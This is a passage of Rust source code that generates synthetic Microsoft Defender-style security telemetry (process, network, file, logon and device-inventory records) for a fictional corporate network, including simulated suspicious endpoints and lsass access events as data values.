    /// A process created at the event's time.
    fn new_proc(&mut self, spec: u16, dev: u16, user: u16) -> ProcInst {
        let key: u64 = self.rng.random();
        ProcInst {
            spec,
            pid: self.pid(spec, dev, key),
            created: self.ev.ts,
            key,
            user,
        }
    }

    fn pid(&self, spec: u16, dev: u16, key: u64) -> u32 {
        if matches!(PROCS[spec as usize].name, "systemd" | "launchd") {
            return 1;
        }
        match self.w.devices[dev as usize].role {
            Role::Linux => 1_000 + (key % 400_000) as u32,
            Role::Mac => 300 + (key % 99_000) as u32,
            _ => 4 * (100 + (key % 9_000) as u32),
        }
    }

    /// Sets the record's device, initiating process, its parent and account.
    fn chain(&mut self, dev: u16, init: u16) {
        self.ev.device = Some(dev);
        let user = self.run_user(init, dev, None);
        let init_inst = self.stable_proc(init, dev, user);
        let parent = self.parent_of(init, dev);
        let parent_user = self.run_user(parent, dev, Some(user));
        let mut parent_inst = self.stable_proc(parent, dev, parent_user);
        parent_inst.created = parent_inst.created.min(init_inst.created - 2_170_000);
        self.ev.procs[INIT] = Some(init_inst);
        self.ev.procs[PARENT] = Some(parent_inst);
        self.ev.accts[INIT] = Some(user);
    }

    /// A device and an initiating process that does `act` on it.
    fn device_activity(&mut self, act: Act, windows_only: bool) -> u16 {
        let dev = self.pick_device(windows_only);
        let init = self.pick_proc(dev, act);
        self.chain(dev, init);
        dev
    }

    // ── process details ──

    fn command_line(&mut self, p: ProcInst) {
        // One instance keeps one command line: render it from its own stream.
        let saved = std::mem::replace(&mut self.rng, ChaCha8Rng::seed_from_u64(p.key));
        let template = *self.pick(self.spec(p).cmds);
        self.tpl_proc = Some(p);
        self.render(template);
        self.tpl_proc = None;
        self.rng = saved;
    }

    fn is_windows_proc(&self, p: ProcInst) -> bool {
        self.spec(p).hosts & WIN != 0
    }

    fn integrity(&self, p: ProcInst) -> Option<&'static str> {
        if !self.is_windows_proc(p) {
            return None;
        }
        Some(match self.w.users[p.user as usize].kind {
            UserKind::Builtin | UserKind::Root => "System",
            UserKind::Service | UserKind::Admin => "High",
            UserKind::Person if p.key.is_multiple_of(20) => "High",
            UserKind::Person => "Medium",
        })
    }

    fn elevation(&self, p: ProcInst) -> &'static str {
        if !self.is_windows_proc(p) {
            return "None";
        }
        match self.w.users[p.user as usize].kind {
            UserKind::Admin => "TokenElevationTypeFull",
            UserKind::Person if p.key.is_multiple_of(20) => "TokenElevationTypeFull",
            UserKind::Person if !p.key.is_multiple_of(5) => "TokenElevationTypeLimited",
            _ => "TokenElevationTypeDefault",
        }
    }

    fn logon_id(&self, p: ProcInst) -> u64 {
        if !self.is_windows_proc(p) {
            return 0;
        }
        match p.user {
            SYSTEM => 999,
            LOCAL_SERVICE => 997,
            NETWORK_SERVICE => 996,
            _ => 0x10000 + (p.key >> 8) % 0xff_ffff,
        }
    }

    fn session_id(&self, p: ProcInst) -> Option<u64> {
        if !self.is_windows_proc(p) {
            return None;
        }
        Some(match self.w.users[p.user as usize].kind {
            UserKind::Person | UserKind::Admin => 1 + (p.key >> 20) % 2,
            _ => 0,
        })
    }

    /// (`SignerType`, `SignatureStatus`) of a process image.
    fn signer_type(&self, p: ProcInst) -> (Option<&'static str>, &'static str) {
        let ver = &self.spec(p).ver;
        match ver.company {
            "" => (None, "Unsigned"),
            "(APPLE)" => (Some("OsVendor"), "Valid"),
            "Microsoft Corporation" if ver.product.contains("Windows") => {
                (Some("OsVendor"), "Valid")
            }
            "Microsoft Corporation" => (Some("Microsoft"), "Valid"),
            c if c.starts_with("gentilkiwi") => (None, "Unsigned"),
            _ => (Some("ThirdParty"), "Valid"),
        }
    }

    /// The device a person works from when a server process runs in their
    /// RDP session.
    fn remote_session(&self, p: ProcInst) -> Option<usize> {
        let device = self.device()?;
        let user = &self.w.users[p.user as usize];
        (device.role.is_server()
            && device.role.is_windows()
            && matches!(user.kind, UserKind::Admin | UserKind::Person)
            && p.key.is_multiple_of(3))
        .then(|| self.w.persons_device(p.user))
    }

    // ── account details ──

    fn account_domain(&self, u: u16) -> &'w str {
        let user = &self.w.users[u as usize];
        if self.is_local_account(user) {
            return self.device_name();
        }
        match user.domain {
            Dom::NtAuthority => "nt authority",
            Dom::Corp => "contoso",
        }
    }

    fn account_sid(&mut self, u: u16) {
        let w = self.w;
        let user = &w.users[u as usize];
        if self.is_local_account(user) {
            match self.device() {
                Some(d) if d.role == Role::Mac => {
                    let mut sid = String::from("S-1-5-21-");
                    for part in [d.key as u32, (d.key >> 32) as u32, hash2(d.key, 7) as u32] {
                        push_u64(&mut sid, u64::from(part));
                        sid.push('-');
                    }
                    push_u64(&mut sid, 1_000 + u64::from(u) % 1_000);
                    self.str(&sid);
                }
                _ => self.null(),
            }
        } else {
            self.opt(user.sid.as_deref());
        }
    }
}

// ─────────────────────────────── tables ───────────────────────────────

/// The tables this module knows how to fill; others get generic values.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum TableKind {
    DeviceProcessEvents,
    DeviceNetworkEvents,
    DeviceFileEvents,
    DeviceEvents,
    DeviceRegistryEvents,
    DeviceImageLoadEvents,
    DeviceLogonEvents,
    DeviceInfo,
    DeviceNetworkInfo,
    DeviceFileCertificateInfo,
    EmailEvents,
    EmailAttachmentInfo,
    EmailUrlInfo,
    EmailPostDeliveryEvents,
    UrlClickEvents,
    IdentityLogonEvents,
    IdentityQueryEvents,
    IdentityDirectoryEvents,
    CloudAppEvents,
    AlertInfo,
    AlertEvidence,
    Other,
}

impl TableKind {
    fn of(table: &str) -> Self {
        use TableKind as T;
        match table {
            "DeviceProcessEvents" => T::DeviceProcessEvents,
            "DeviceNetworkEvents" => T::DeviceNetworkEvents,
            "DeviceFileEvents" => T::DeviceFileEvents,
            "DeviceEvents" => T::DeviceEvents,
            "DeviceRegistryEvents" => T::DeviceRegistryEvents,
            "DeviceImageLoadEvents" => T::DeviceImageLoadEvents,
            "DeviceLogonEvents" => T::DeviceLogonEvents,
            "DeviceInfo" => T::DeviceInfo,
            "DeviceNetworkInfo" => T::DeviceNetworkInfo,
            "DeviceFileCertificateInfo" => T::DeviceFileCertificateInfo,
            "EmailEvents" => T::EmailEvents,
            "EmailAttachmentInfo" => T::EmailAttachmentInfo,
            "EmailUrlInfo" => T::EmailUrlInfo,
            "EmailPostDeliveryEvents" => T::EmailPostDeliveryEvents,
            "UrlClickEvents" => T::UrlClickEvents,
            "IdentityLogonEvents" => T::IdentityLogonEvents,
            "IdentityQueryEvents" => T::IdentityQueryEvents,
            "IdentityDirectoryEvents" => T::IdentityDirectoryEvents,
            "CloudAppEvents" => T::CloudAppEvents,
            "AlertInfo" => T::AlertInfo,
            "AlertEvidence" => T::AlertEvidence,
            _ => T::Other,
        }
    }

    fn profile(self) -> Profile {
        use TableKind as T;
        const DEVICE: (f64, f64) = (1.0, 300.0);
        const INVENTORY: (f64, f64) = (5.0, 900.0);
        const EMAIL: (f64, f64) = (20.0, 240.0);
        let between = Received::Between;
        let email = Received::Timestamp { zulu: false };
        let (weight, digits, lag, late, received) = match self {
            T::DeviceProcessEvents => (20.0, 6, DEVICE, 0.01, between),
            T::DeviceNetworkEvents => (18.0, 7, DEVICE, 0.01, between),
            T::DeviceFileEvents => (14.0, 7, DEVICE, 0.01, between),
            T::DeviceEvents => (12.0, 7, DEVICE, 0.01, between),
            T::DeviceRegistryEvents => (8.0, 7, DEVICE, 0.01, between),
            T::DeviceImageLoadEvents => (7.0, 7, DEVICE, 0.01, between),
            T::DeviceLogonEvents => (4.0, 7, DEVICE, 0.01, between),
            T::DeviceInfo => (1.5, 7, INVENTORY, 0.0, between),
            T::DeviceNetworkInfo => (1.5, 7, INVENTORY, 0.0, between),
            T::DeviceFileCertificateInfo => (1.5, 7, INVENTORY, 0.0, between),
            T::EmailEvents => (2.5, 0, EMAIL, 0.0, email),
            T::EmailAttachmentInfo => (0.8, 0, EMAIL, 0.0, email),
            T::EmailUrlInfo => (1.2, 0, EMAIL, 0.0, email),
            T::EmailPostDeliveryEvents => (0.3, 0, EMAIL, 0.0, email),
            T::UrlClickEvents => (0.6, 7, (10.0, 200.0), 0.0, between),
            T::IdentityLogonEvents => (1.2, 3, (5.0, 600.0), 0.0, between),
            T::IdentityQueryEvents => (0.8, 3, (5.0, 600.0), 0.0, between),
            T::IdentityDirectoryEvents => (0.4, 3, (5.0, 600.0), 0.0, between),
            T::CloudAppEvents => (
                3.0,
                3,
                (30.0, 1_800.0),
                0.02,
                Received::Timestamp { zulu: true },
            ),
            T::AlertInfo => (0.25, 6, (60.0, 1_800.0), 0.3, between),
            T::AlertEvidence => (0.6, 6, (60.0, 1_800.0), 0.3, between),
            T::Other => (1.0, 7, DEVICE, 0.01, between),
        };
        Profile {
            weight,
            digits,
            lag,
            late,
            received,
        }
    }

    /// Columns real records carry that no schema file lists (quirks D.11).
    fn extra_columns(self) -> &'static [&'static str] {
        use TableKind as T;
        match self {
            T::DeviceProcessEvents
            | T::DeviceNetworkEvents
            | T::DeviceFileEvents
            | T::DeviceEvents
            | T::DeviceRegistryEvents
            | T::DeviceImageLoadEvents
            | T::DeviceLogonEvents
            | T::DeviceNetworkInfo
            | T::DeviceFileCertificateInfo
            | T::AlertInfo => &["MachineGroup"],
            _ => &[],
        }
    }

    /// First numeric `ReportId`: small counters, or .NET ticks (beyond 2^53,
    /// quirks D.6) on the inventory tables.
    fn report_base(self, start: i64, salt: u64) -> u64 {
        match self {
            TableKind::DeviceInfo | TableKind::DeviceNetworkInfo => {
                (start / 100 + TICKS_AT_UNIX_EPOCH) as u64 + salt % 1_000_000_000
            }
            _ => 1_000 + salt % 60_000,
        }
    }

    /// Picks the entities of the next record.
    fn scenario(self) -> fn(&mut Ctx<'_>) {
        use TableKind as T;
        match self {
            T::DeviceProcessEvents => process_event,
            T::DeviceNetworkEvents => network_event,
            T::DeviceFileEvents => file_event,
            T::DeviceEvents => device_event,
            T::DeviceRegistryEvents => registry_event,
            T::DeviceImageLoadEvents => image_load_event,
            T::DeviceLogonEvents => logon_event,
            T::DeviceInfo => inventory_event,
            T::DeviceNetworkInfo => adapter_event,
            T::DeviceFileCertificateInfo => certificate_event,
            T::EmailEvents => email_event,
            T::EmailAttachmentInfo => attachment_event,
            T::EmailUrlInfo => email_url_event,
            T::EmailPostDeliveryEvents => post_delivery_event,
            T::UrlClickEvents => url_click_event,
            T::IdentityLogonEvents => identity_logon_event,
            T::IdentityQueryEvents => identity_query_event,
            T::IdentityDirectoryEvents => identity_directory_event,
            T::CloudAppEvents => cloud_app_event,
            T::AlertInfo => alert_info_event,
            T::AlertEvidence => alert_evidence_event,
            T::Other => generic_event,
        }
    }

    /// The table's own column builders (before the shared ones).
    fn columns(self, name: &str) -> Option<Gen> {
        use TableKind as T;
        match self {
            T::DeviceProcessEvents
            | T::DeviceNetworkEvents
            | T::DeviceFileEvents
            | T::DeviceEvents
            | T::DeviceRegistryEvents
            | T::DeviceImageLoadEvents
            | T::DeviceLogonEvents => device_activity_column(self, name),
            T::DeviceInfo => device_info_column(name),
            T::DeviceNetworkInfo => adapter_column(name),
            T::DeviceFileCertificateInfo => certificate_column(name),
            T::EmailEvents
            | T::EmailAttachmentInfo
            | T::EmailUrlInfo
            | T::EmailPostDeliveryEvents => email_column(self, name),
            T::UrlClickEvents => url_click_column(name),
            T::IdentityLogonEvents | T::IdentityQueryEvents | T::IdentityDirectoryEvents => {
                identity_column(self, name)
            }
            T::CloudAppEvents => cloud_column(name),
            T::AlertInfo | T::AlertEvidence => alert_column(self, name),
            T::Other => None,
        }
    }
}

// ─────────────────────────── device activity ───────────────────────────

fn process_event(c: &mut Ctx<'_>) {
    let dev = c.pick_device(false);
    let target = c.pick_proc(dev, Act::Spawn);
    let init = c.parent_of(target, dev);
    c.chain(dev, init);
    let user = c.run_user(target, dev, c.ev.accts[INIT]);
    c.ev.procs[TARGET] = Some(c.new_proc(target, dev, user));
    c.ev.accts[SUBJECT] = Some(user);
    c.ev.file = Some(FileRef::Proc(target));
    c.ev.action = "ProcessCreated";
}

fn file_event(c: &mut Ctx<'_>) {
    let dev = c.device_activity(Act::File, false);
    let w = c.w;
    let role = w.devices[dev as usize].role;
    let file = w.file_pools[role as usize].sample(&mut c.rng);
    c.ev.file = Some(FileRef::Pool(file as u32));
    c.ev.action = *c.pick(FILE_ACTIONS);
    c.ev.previous = c.ev.action == "FileRenamed";
    let entry = &w.files[file];
    if entry.origin && c.ev.action == "FileCreated" {
        c.ev.origin = Some(w.url_pools[usize::from(entry.malicious)].sample(&mut c.rng) as u32);
    }
    if role == Role::FileServer && c.chance(0.6) {
        let client = c.pick_device(true);
        c.ev.peer = Some(client);
        c.ev.accts[REQUEST] = Some(w.devices[client as usize].user);
    } else {
        c.ev.accts[REQUEST] = c.ev.accts[INIT];
    }
}

fn network_event(c: &mut Ctx<'_>) {
    c.device_activity(Act::Net, false);
    let w = c.w;
    let init = c.ev.procs[INIT].unwrap_or_default();
    let profile = c.spec(init).net;
    // Servers mostly accept connections.
    if let Net::Server(ports) = profile
        && c.chance(0.75)
    {
        let local_port = ports[c.rng.random_range(0..ports.len())];
        let listening = c.chance(0.03);
        let client = w.ep_pools[EpCat::Client as usize].sample(&mut c.rng) as u32;
        c.ev.action = if listening {
            "ListeningConnectionCreated"
        } else {
            "InboundConnectionAccepted"
        };
        c.ev.net = Some(NetRef {
            remote: (!listening).then_some(client),
            local_port,
            remote_port: if listening {
                0
            } else {
                c.rng.random_range(49_152..65_535)
            },
            url: None,
            udp: false,
        });
        return;
    }
    let net = c.connect(profile);
    let port = net.remote_port;
    let action = *c.pick(OUTBOUND_ACTIONS);
    c.ev.action = match action {
        "SslConnectionInspected" if port != 443 => "ConnectionSuccess",
        "HttpConnectionInspected" if port != 80 && port != 8080 => "ConnectionSuccess",
        "DnsConnectionInspected" if port != 53 => "ConnectionSuccess",
        a => a,
    };
    c.ev.net = Some(net);
}

fn registry_event(c: &mut Ctx<'_>) {
    let dev = c.pick_device(true);
    let i = c.w.registry_pool.sample(&mut c.rng);
    let spec = &REGISTRY[i];
    let init = match spec.init {
        Some(name) => c.proc_named(dev, name, Act::Reg),
        None => c.pick_proc(dev, Act::Reg),
    };
    c.chain(dev, init);
    c.ev.reg = Some(i as u16);
    c.ev.action = *c.pick(spec.actions);
    c.ev.previous = c.ev.action == "RegistryValueSet" && c.chance(0.3);
}

fn image_load_event(c: &mut Ctx<'_>) {
    c.device_activity(Act::Img, true);
    c.ev.file = Some(FileRef::Dll(c.w.dll_pool.sample(&mut c.rng) as u16));
    c.ev.action = "ImageLoaded";
}

fn logon_event(c: &mut Ctx<'_>) {
    let w = c.w;
    let dev = c.pick_device(false);
    let role = w.devices[dev as usize].role;
    let i = w.logon_pools[role as usize].sample(&mut c.rng);
    let spec = &LOGONS[i];
    let init = c.proc_named(dev, spec.init, Act::Spawn);
    c.chain(dev, init);
    let user = c.logon_user(spec.who, dev);
    c.ev.accts[SUBJECT] = Some(user);
    c.ev.spec = i as u16;
    c.ev.flag = spec.can_fail && c.chance(0.12);
    c.ev.action = if c.ev.flag {
        "LogonFailed"
    } else if c.chance(0.01) {
        "LogonAttempted"
    } else {
        "LogonSuccess"
    };
    if spec.remote {
        let cat = if c.ev.flag && c.chance(0.3) {
            EpCat::Bad
        } else {
            EpCat::Client
        };
        let remote = w.ep_pools[cat as usize].sample(&mut c.rng) as u32;
        c.ev.net = Some(NetRef {
            remote: Some(remote),
            local_port: 0,
            remote_port: if c.chance(0.5) {
                c.rng.random_range(49_152..65_535)
            } else {
                0
            },
            url: None,
            udp: false,
        });
    }
}

fn device_event(c: &mut Ctx<'_>) {
    let w = c.w;
    let i = w.event_pool.sample(&mut c.rng);
    let spec = &DEVICE_EVENTS[i];
    let dev = c.pick_device(true);
    let init = match spec.init {
        Some(name) => c.proc_named(dev, name, Act::Misc),
        None => c.pick_proc(dev, Act::Misc),
    };
    c.chain(dev, init);
    c.ev.spec = i as u16;
    c.ev.action = spec.action;
    let role = w.devices[dev as usize].role;
    match spec.file {
        FilePick::None => {}
        FilePick::Pool => {
            c.ev.file = Some(FileRef::Pool(
                w.file_pools[role as usize].sample(&mut c.rng) as u32,
            ))
        }
        FilePick::Malware => c.ev.file = Some(FileRef::Pool(w.bad_files.sample(&mut c.rng) as u32)),
        FilePick::Lsass => {
            let lsass = c.proc_named(dev, "lsass.exe", Act::Spawn);
            c.ev.file = Some(FileRef::Proc(lsass));
            c.ev.procs[TARGET] = Some(c.stable_proc(lsass, dev, SYSTEM));
        }
    }
    if spec.process && c.ev.procs[TARGET].is_none() {
        let target = c.pick_proc(dev, Act::Spawn);
        let user = c.run_user(target, dev, c.ev.accts[INIT]);
        c.ev.procs[TARGET] = Some(c.new_proc(target, dev, user));
    }
    if spec.account {
        c.ev.accts[SUBJECT] = c.ev.accts[INIT];
    }
    if let Some(net) = spec.net {
        let mut conn = c.connect(net);
        if spec.action == "BrowserLaunchedToOpenUrl" {
            conn = NetRef {
                url: Some(w.url_pools[0].sample(&mut c.rng) as u32),
                ..NetRef::default()
            };
        } else if !spec.action.starts_with("Firewall") && !spec.action.starts_with("ExploitGuard") {
            // The far end is only named (DNS answers, SmartScreen): no ports.
            conn.local_port = 0;
            conn.remote_port = 0;
        }
        c.ev.net = Some(conn);
    }
}

fn generic_event(c: &mut Ctx<'_>) {
    let dev = c.device_activity(Act::Misc, false);
    c.ev.accts[SUBJECT] = c.ev.accts[INIT];
    let role = c.w.devices[dev as usize].role;
    c.ev.file = Some(FileRef::Pool(
        c.w.file_pools[role as usize].sample(&mut c.rng) as u32,
    ));
}

impl Ctx<'_> {
    /// An outbound connection of a process with network profile `net`.
    fn connect(&mut self, net: Net) -> NetRef {
        let w = self.w;
        let mix = net.mix();
        let cats = [
            (EpCat::Microsoft, mix[0]),
            (EpCat::Web, mix[1]),
            (EpCat::Internal, mix[2]),
            (EpCat::Bad, mix[3]),
            (EpCat::Repo, mix[4]),
        ];
        let cat = *pick_at(&cats, self.rng.random());
        let remote = w.ep_pools[cat as usize].sample(&mut self.rng);
        let e = &w.endpoints[remote];
        NetRef {
            remote: Some(remote as u32),
            local_port: self.rng.random_range(49_152..65_535),
            remote_port: e.port,
            url: None,
            udp: e.udp,
        }
    }

    fn logon_user(&mut self, who: Who, dev: u16) -> u16 {
        let w = self.w;
        let device = &w.devices[dev as usize];
        match who {
            Who::System => SYSTEM,
            Who::Service => (w.services.start + self.rng.random_range(0..w.services.len())) as u16,
            Who::Admin => (w.admins.start + self.rng.random_range(0..w.admins.len())) as u16,
            Who::Person if device.role.is_server() && self.chance(0.6) => {
                (w.admins.start + self.rng.random_range(0..w.admins.len())) as u16
            }
            Who::Person if device.role.is_server() || self.chance(0.1) => self.pick_person(),
            Who::Person => device.user,
        }
    }
}

fn device_activity_column(kind: TableKind, name: &str) -> Option<Gen> {
    use TableKind as T;
    Some(match (kind, name) {
        (T::DeviceProcessEvents, "AdditionalFields") => g(|c| {
            let unix = c.device().is_some_and(|d| !d.role.is_windows());
            if unix && c.chance(0.8) {
                c.render_json(POSIX_FIELDS, true);
            } else {
                c.raw_of(&[("null", 9), (r#""{}""#, 1)]);
            }
        }),
        (T::DeviceFileEvents, "AdditionalFields") => when(
            |e| e.file,
            false,
            |c, f| {
                let w = c.w;
                match (f, c.rng.random_range(0..10)) {
                    (_, 0) => c.raw(r#""{}""#),
                    (_, 1 | 2) => c.null(),
                    (FileRef::Pool(i), _) => {
                        let kind = w.files[i as usize].kind;
                        c.stringified(|c| {
                            c.raw("{");
                            c.key("FileType");
                            c.str(kind);
                            c.raw("}");
                        });
                    }
                    _ => c.raw(r#""{\"FileType\":\"PortableExecutable\"}""#),
                }
            },
        ),
        (T::DeviceNetworkEvents, "AdditionalFields") => g(|c| {
            let template = match c.ev.action {
                "SslConnectionInspected" => {
                    r#"{"direction":"Out","server_name":"{{rhost}}","established":true,"version":"TLS 1.2","client_cipher_suites":"0x1302,0x1303,0x1301"}"#
                }
                "HttpConnectionInspected" => {
                    r#"{"direction":"Out","host":"{{rhost}}","method":"GET","status_code":"200","uri":"/{{hex8}}/update.bin","user_agent":"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"}"#
                }
                "DnsConnectionInspected" => {
                    r#"{"direction":"Out","query":"{{rhost}}","query_type":"A","query_class":"IN","rcode_name":"NOERROR","uid":"C{{hex16}}"}"#
                }
                _ => "",
            };
            if template.is_empty() {
                c.null()
            } else {
                c.render_json(template, true)
            }
        }),
        (T::DeviceLogonEvents, "AdditionalFields") => g(|c| {
            let local = !LOGONS[c.ev.spec as usize].remote;
            match (c.rng.random_range(0..10), local) {
                (0 | 1, _) => c.null(),
                (_, true) => c.raw(r#""{\"IsLocalLogon\":true}""#),
                (_, false) => c.raw(r#""{\"IsLocalLogon\":false}""#),
            }
        }),
        (T::DeviceEvents, "AdditionalFields") => {
            g(|c| match DEVICE_EVENTS[c.ev.spec as usize].fields {
                Some(template) => c.render_json(template, true),
                None => c.raw_of(&[("null", 7), (r#""{}""#, 1)]),
            })
        }
        (_, "AdditionalFields") => raw(&[("null", 8), (r#""{}""#, 2)]),
        (T::DeviceFileEvents, "PreviousFileName") => when(
            |e| e.file.filter(|_| e.previous),
            true,
            |c, f| {
                let name = c.file_view(f).name;
                let previous = format!(
                    "~${}.tmp",
                    name.rsplit_once('.').map_or(name, |(stem, _)| stem)
                );
                c.str(&previous);
            },
        ),
        (T::DeviceFileEvents, "PreviousFolderPath") => when(
            |e| e.file.filter(|_| e.previous),
            true,
            |c, f| {
                let v = c.file_view(f);
                c.path(v.dir, "", false);
            },
        ),
        (T::DeviceFileEvents, "RequestProtocol") => {
            g(|c| c.str(if c.ev.peer.is_some() { "Smb" } else { "Local" }))
        }
        (T::DeviceFileEvents, "RequestSourceIP") => when(
            |e| e.peer,
            true,
            |c, p| {
                let w = c.w;
                c.str(&w.devices[p as usize].ip);
            },
        ),
        (T::DeviceFileEvents, "RequestSourcePort") => when(
            |e| e.peer,
            false,
            |c, _| {
                let port = c.rng.random_range(49_152..65_535u64);
                c.uint(port);
            },
        ),
        (T::DeviceFileEvents, "ShareName") => when(|e| e.peer, true, |c, _| c.lit(SHARES)),
        (T::DeviceFileEvents, "SensitivityLabel") => lit(&[
            (None, 90),
            (Some("General"), 6),
            (Some("Confidential"), 3),
            (Some("Highly Confidential"), 1),
        ]),
        (T::DeviceFileEvents, "SensitivitySubLabel") => {
            lit(&[(None, 95), (Some("All Employees"), 4), (Some("Finance"), 1)])
        }
        (T::DeviceFileEvents, "IsAzureInfoProtectionApplied") => raw(&[("null", 7), ("false", 3)]),
        (T::DeviceLogonEvents, "LogonId") => when(
            |e| e.accts[SUBJECT],
            false,
            |c, u| {
                let id = match u {
                    SYSTEM => 999,
                    NETWORK_SERVICE => 996,
                    _ => 0x10000 + hash2(c.salt, c.ev.seq) % 0xff_ffff,
                };
                c.uint(id);
            },
        ),
        (T::DeviceLogonEvents, "LogonType") => g(|c| c.str(LOGONS[c.ev.spec as usize].logon_type)),
        (T::DeviceLogonEvents, "Protocol") => g(|c| c.lit(LOGONS[c.ev.spec as usize].protocols)),
        (T::DeviceLogonEvents, "FailureReason") => g(|c| {
            if c.ev.flag {
                c.lit(LOGON_FAILURES)
            } else {
                c.null()
            }
        }),
        (T::DeviceLogonEvents, "IsLocalAdmin") => when(
            |e| e.accts[SUBJECT],
            false,
            |c, u| match c.w.users[u as usize].kind {
                UserKind::Admin => c.bool(true),
                UserKind::Person => {
                    let admin = c.ev.flag && c.chance(0.1);
                    c.bool(admin);
                }
                _ => c.null(),
            },
        ),
        (T::DeviceLogonEvents, "RemoteIPType") => when(
            |e| e.net.and_then(|n| n.remote),
            true,
            |c, r| {
                let w = c.w;
                c.str(if w.endpoints[r as usize].cat == EpCat::Bad {
                    "Public"
                } else {
                    "Private"
                });
            },
        ),
        (_, "ReportId") => g(|c| {
            let v = c.counter(7);
            c.uint(v);
        }),
        _ => return None,
    })
}

// ──────────────────────────── device inventory ────────────────────────────

fn inventory_event(c: &mut Ctx<'_>) {
    let w = c.w;
    let dev = c.rng.random_range(0..w.devices.len()) as u16;
    c.ev.device = Some(dev);
    c.ev.accts[SUBJECT] = Some(w.devices[dev as usize].user);
}

fn adapter_event(c: &mut Ctx<'_>) {
    inventory_event(c);
    let laptop = c
        .device()
        .is_some_and(|d| matches!(d.role, Role::Laptop | Role::Mac));
    c.ev.spec = u16::from(laptop && c.chance(0.5));
}

fn certificate_event(c: &mut Ctx<'_>) {
    let dev = c.pick_device(true);
    c.ev.device = Some(dev);
    c.ev.file = Some(if c.chance(0.6) {
        FileRef::Proc(c.pick_proc(dev, Act::Spawn))
    } else {
        FileRef::Dll(c.w.dll_pool.sample(&mut c.rng) as u16)
    });
}

fn device_info_column(name: &str) -> Option<Gen> {
    Some(match name {
        "ReportId" => g(|c| {
            let v = c.counter(1_000_003);
            c.uint(v);
        }),
        "ClientVersion" => device_col(|c, d| c.str(d.os.client)),
        "PublicIP" => device_col(|c, d| c.str(&d.public_ip)),
        "OSArchitecture" => device_col(|c, d| c.str(d.os.arch)),
        "OSPlatform" => device_col(|c, d| c.str(d.os.platform)),
        "OSBuild" => device_col(|c, d| match d.os.build {
            0 => c.null(),
            b => c.uint(u64::from(b)),
        }),
        "OsBuildRevision" => device_col(|c, d| c.str_or_null(d.os.revision)),
        "OSVersion" => device_col(|c, d| c.str(d.os.version)),
        "OSDistribution" => device_col(|c, d| c.str(d.os.distribution)),
        "OSVersionInfo" => device_col(|c, d| {
            if d.os.version_info.is_empty() {
                c.empty()
            } else {
                c.str(d.os.version_info)
            }
        }),
        "IsAzureADJoined" => device_col(|c, d| match d.role {
            Role::Linux => c.null(),
            r => c.bool(!r.is_server()),
        }),
        "JoinType" => device_col(|c, d| match d.role {
            Role::Linux => c.null(),
            Role::Mac => c.str("Azure AD Registered"),
            r if r.is_server() => c.str("Domain Joined"),
            _ => c.str("Hybrid Azure AD Join"),
        }),
        "AadDeviceId" => device_col(|c, d| c.opt(d.aad.as_deref())),
        "LoggedOnUsers" => device_col(|c, d| {
            let w = c.w;
            let user = &w.users[d.user as usize];
            if d.role.is_server() || c.chance(0.1) {
                c.raw(r#""[]""#);
                return;
            }
            let domain = if d.role.is_windows() {
                "CONTOSO"
            } else {
                d.name.as_str()
            };
            c.stringified(|c| {
                c.raw("[{");
                c.key("UserName");
                c.str(&user.name);
                c.key("DomainName");
                c.str(domain);
                c.key("Sid");
                c.opt(user.sid.as_deref());
                c.raw("}]");
            });
        }),
        "RegistryDeviceTag" => lit(&[
            (None, 80),
            (Some(""), 10),
            (Some("Finance"), 6),
            (Some("PAW"), 4),
        ]),
        "OnboardingStatus" => text("Onboarded"),
        "AdditionalFields" => raw(&[("null", 5), (r#""[]""#, 3), (r#""{}""#, 1)]),
        "DeviceCategory" => text("Endpoint"),
        "DeviceType" => device_col(|c, d| {
            c.str(if d.role.is_server() {
                "Server"
            } else {
                "Workstation"
            })
        }),
        "DeviceSubtype" => nothing(),
        "Model" => device_col(|c, d| c.str(d.model)),
        "Vendor" => device_col(|c, d| c.str(d.vendor)),
        "MergedDeviceIds"
        | "MergedToDeviceId"
        | "HostDeviceId"
        | "AwsResourceName"
        | "GcpFullResourceName" => nothing(),
        "IsInternetFacing" => device_col(|c, d| {
            if matches!(d.role, Role::Web) {
                c.bool(true)
            } else {
                c.raw_of(&[("null", 7), ("false", 3)])
            }
        }),
        "SensorHealthState" => lit(&[
            (Some("Active"), 90),
            (Some("Inactive"), 6),
            (Some("ImpairedCommunication"), 2),
            (Some("NoSensorData"), 2),
        ]),
        "IsExcluded" | "IsTransient" => raw(&[("false", 1)]),
        "ExclusionReason" | "MitigationStatus" | "Site" | "DlpInfo" => g(|c| c.null()),
        "ExposureLevel" => lit(&[
            (Some("Low"), 5),
            (Some("Medium"), 4),
            (Some("High"), 1),
            (Some("None"), 1),
        ]),
        "AssetValue" => {
            device_col(|c, d| c.str(if d.role == Role::Dc { "High" } else { "Normal" }))
        }
        "DeviceManualTags" => raw(&[
            (r#""[]""#, 8),
            (r#""[\"VIP\"]""#, 1),
            (r#""[\"Finance\"]""#, 1),
        ]),
        "DeviceDynamicTags" => raw(&[(r#""[]""#, 9), (r#""[\"Internet facing\"]""#, 1)]),
        "ConnectivityType" => lit(&[(Some("Streamlined"), 7), (Some("Standard"), 3)]),
        "AzureResourceId" => device_col(|c, d| {
            if d.azure.is_some() {
                let id = format!(
                    "/subscriptions/{AZURE_SUBSCRIPTION}/resourceGroups/rg-prod-servers/providers/Microsoft.Compute/virtualMachines/{}",
                    d.name
                );
                c.str(&id);
            } else {
                c.empty();
            }
        }),
        "AzureVmId" => device_col(|c, d| match &d.azure {
            Some(id) => c.str(id),
            None => c.empty(),
        }),
        "AzureVmSubscriptionId" => device_col(|c, d| {
            if d.azure.is_some() {
                c.str(AZURE_SUBSCRIPTION)
            } else {
                c.empty()
            }
        }),
        "CloudPlatforms" => device_col(|c, d| {
            if d.azure.is_some() {
                c.str("Azure")
            } else {
                c.null()
            }
        }),
        "HardwareUuid" => device_col(|c, d| c.guid(d.key, hash2(d.key, 1))),
        "DiscoverySources" => raw(&[(r#""[\"Microsoft Defender for Endpoint\"]""#, 1)]),
        "DeviceRoles" => device_col(|c, d| {
            let roles = match d.role {
                Role::Dc => r#""[\"DomainController\"]""#,
                Role::Sql => r#""[\"SqlServer\"]""#,
                Role::Web => r#""[\"WebServer\"]""#,
                Role::FileServer => r#""[\"FileServer\"]""#,
                _ => r#""[]""#,
            };
            c.raw(roles);
        }),
        _ => return None,
    })
}

fn adapter_column(name: &str) -> Option<Gen> {
    let wifi = |e: &Event| e.spec == 1;
    Some(match name {
        "ReportId" => g(|c| {
